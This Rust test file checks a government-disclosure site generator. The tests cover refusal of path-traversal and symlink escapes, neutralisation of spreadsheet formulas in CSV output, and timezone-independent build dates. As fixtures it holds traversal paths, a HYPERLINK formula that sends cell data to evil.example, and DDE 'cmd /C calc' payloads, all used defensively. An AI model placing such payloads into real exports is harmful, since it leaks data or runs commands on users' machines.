//! Issue 11 (publishing integrity), items 9–14: `new` outside `content/`, formula injection in
//! the CSV files, characters XML cannot carry, names too long for the file system, the build
//! date's timezone, `serve`'s HTTP methods, and what `load` used to skip without a word.

use std::process::Command;

use gongkai::pipeline;

use crate::harness::{self, doc, errors, Site, CONFIG};

const BIN: &str = env!("CARGO_BIN_EXE_gongkai");

// ---- 9. `gongkai new` writes only under content/ ----

#[test]
fn r11_9_new_refuses_paths_outside_content_before_reserving_a_number() {
    let s = Site::new();
    let outside = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path(), s.root().join("content/out")).unwrap();
    let abs_outside = outside.path().join("abs.md");
    let abs_root = s.root().join("x.md");
    let refused: Vec<&str> = vec![
        "../../x.md",
        "../x.md",
        "content/../x.md",
        "2026/../../x.md",
        "out/x.md",
        "out/sub/x.md",
        abs_outside.to_str().unwrap(),
        abs_root.to_str().unwrap(),
        ".hidden/x.md",
        "content",
    ];
    let new = |path: &str| {
        Command::new(BIN)
            .args(["new", "--today", harness::TODAY, "--root"])
            .arg(s.root())
            .arg(path)
            .output()
            .unwrap()
    };
    for path in refused {
        let out = new(path);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{path}: {err}");
        let msg = err.trim_start_matches("gongkai: ");
        assert!(msg.starts_with("路径"), "{path}: Chinese first: {err}");
        assert!(err.contains(path), "{path}: names the path: {err}");
        assert!(
            !s.root().join("gongkai-ledger.tsv").exists(),
            "{path}: a refused path reserved a number"
        );
    }
    let stray: Vec<_> = walkdir::WalkDir::new(outside.path())
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .collect();
    assert!(stray.is_empty(), "written outside content/: {stray:?}");
    assert!(!s.root().join("x.md").exists());

    // Folded paths that stay inside, and an absolute path inside content/, are accepted.
    let inside_abs = s.root().join("content/2026/b.md");
    for (path, written) in [
        ("2026/../2026/a.md", "content/2026/a.md"),
        (inside_abs.to_str().unwrap(), "content/2026/b.md"),
    ] {
        let out = new(path);
        assert!(
            out.status.success(),
            "{path}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), written);
        assert!(s.root().join(written).is_file());
    }
    let ledger = std::fs::read_to_string(s.root().join("gongkai-ledger.tsv")).unwrap();
    assert!(ledger.contains("\tcontent/2026/a.md"), "{ledger}");
    assert!(ledger.contains("\tcontent/2026/b.md"), "{ledger}");
    assert_eq!(ledger.lines().filter(|l| l.contains("13502/")).count(), 2);
}

// ---- 10. No formula in the CSV files ----

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"点击查看")"#;
const CALC: &str = "+cmd|' /C calc'!A0";

/// The rows of a CSV file the build wrote (BOM stripped), header first.
fn csv_rows(s: &Site, rel: &str) -> Vec<Vec<String>> {
    let bytes = std::fs::read(s.public().join(rel)).unwrap();
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("BOM");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn r11_10_csv_cells_never_start_a_formula_and_json_keeps_the_data() {
    let s = Site::new();
    let yaml = |t: &str| t.replace('\\', "\\\\").replace('"', "\\\"");
    s.file(
        "a.md",
        &doc(
            "13502/2024-00001",
            &yaml(HYPERLINK),
            &format!("summary: \"{}\"\n", yaml(CALC)),
            "正文",
        ),
    );
    // A 行政规范性文件 is in the register too.
    s.file(
        "b.md",
        &doc(
            "13502/2024-00002",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "doc_no: \"承市政规〔2024〕1号\"\nvalidity: \"有效\"\neffective: \"2024-02-01\"\nexpires: \"2029-01-31\"\nsummary: \"-2+3\"\n",
            "正文",
        )
        .replace("kind: \"其他文件\"\nitem: \"20.15\"\n", "kind: \"行政规范性文件\"\nitem: \"20.1\"\n"),
    );
    let r = s.build();
    assert!(r.written, "{:#?}", errors(&r));

    let catalogue = csv_rows(&s, "catalogue.csv");
    let col = |name: &str| catalogue[0].iter().position(|h| h == name).unwrap();
    let row = |no: &str| catalogue.iter().find(|r| r[0] == no).unwrap();
    assert_eq!(
        row("13502/2024-00001")[col("名称")],
        format!("'{HYPERLINK}")
    );
    assert_eq!(row("13502/2024-00001")[col("内容概述")], format!("'{CALC}"));
    assert_eq!(row("13502/2024-00002")[col("内容概述")], "'-2+3");
    let register = csv_rows(&s, "register.csv");
    let title = register[0].iter().position(|h| h == "名称").unwrap();
    assert_eq!(register[1][title], "'@SUM(1+1)*cmd|' /C calc'!A0");
    for (file, rows) in [("catalogue.csv", &catalogue), ("register.csv", &register)] {
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{file}: cell {cell:?} would run as a formula"
            );
        }
    }

    // The JSON files are data for programs: exactly what the documents say.
    let json: serde_json::Value = serde_json::from_str(&s.read("catalogue.json")).unwrap();
    let docs = json["documents"].as_array().unwrap();
    let a = docs
        .iter()
        .find(|d| d["index_no"] == "13502/2024-00001")
        .unwrap();
    assert_eq!(a["title"], HYPERLINK);
    assert_eq!(a["summary"], CALC);
    let json: serde_json::Value = serde_json::from_str(&s.read("register.json")).unwrap();
    assert_eq!(json["documents"][0]["title"], "@SUM(1+1)*cmd|' /C calc'!A0");
}

// ---- 13. The build date is the date in the site's timezone ----

#[test]
fn r11_13_a_document_dated_today_in_beijing_is_published_at_20_00_utc_the_day_before() {
    let body = doc("13502/2026-00001", "北京时间今天发布", "", "正文")
        .replace("published: \"2024-01-05\"", "published: \"2026-11-26\"");
    let at = "2026-11-25T20:00:00Z".parse().unwrap();
    let page = "xxgk/13502/2026-00001.html";
    let compile = |config: &str| {
        let s = Site::with_config(config);
        s.file("a.md", &body);
        let mut o = s.options();
        o.today = None;
        o.now = Some(at);
        o.skip_search = true;
        let c = pipeline::compile(&o);
        (
            c.files.iter().any(|f| f.path == page),
            c.site.map(|s| s.today),
        )
    };
    let cst = compile(CONFIG);
    assert_eq!(cst, (true, Some("2026-11-26".parse().unwrap())));
    // An office that writes its dates in UTC−5 has not reached the 26th yet.
    let (published, today) = compile(&format!("timezone = \"-05:00\"\n{CONFIG}"));
    assert_eq!(
        (published, today),
        (false, Some("2026-11-25".parse().unwrap()))
    );
}

/// Builds the same site on "servers" in UTC−12 and UTC+14 (their dates always differ) without
/// `--today`: the outputs are identical, and the build date is Beijing's.
#[test]
fn r11_13_builds_in_any_machine_timezone_are_byte_identical() {
    let s = Site::new();
    s.file("a.md", &doc("13502/2024-00001", "甲", "", "正文甲"));
    s.file("b.md", &doc("13502/2024-00002", "乙", "", "正文乙"));
    let beijing_today = || {
        (chrono::Utc::now() + chrono::TimeDelta::hours(8))
            .date_naive()
            .to_string()
    };
    let build = |tz: &str, out: &str| {
        let o = Command::new(BIN)
            .env("TZ", tz)
            .args(["build", "-q", "--root"])
            .arg(s.root())
            .arg("--output")
            .arg(s.root().join(out))
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        harness::tree(&s.root().join(out))
    };
    // Two tries: the builds may straddle midnight in Beijing.
    for attempt in 0..2 {
        let before = beijing_today();
        let west = build("Etc/GMT+12", &format!("west{attempt}"));
        let east = build("Etc/GMT-14", &format!("east{attempt}"));
        if beijing_today() != before {
            continue;
        }
        let names = |t: &[(String, Vec<u8>)]| t.iter().map(|(p, _)| p.clone()).collect::<Vec<_>>();
        assert_eq!(names(&west), names(&east));
        let differ: Vec<&String> = west
            .iter()
            .zip(&east)
            .filter(|(a, b)| a.1 != b.1)
            .map(|(a, _)| &a.0)
            .collect();
        assert!(differ.is_empty(), "differ between zones: {differ:?}");
        let json: serde_json::Value =
            serde_json::from_slice(&west.iter().find(|(p, _)| p == "catalogue.json").unwrap().1)
                .unwrap();
        assert_eq!(json["generated"], before.as_str());
        return;
    }
    panic!("midnight in Beijing twice during two builds");
}
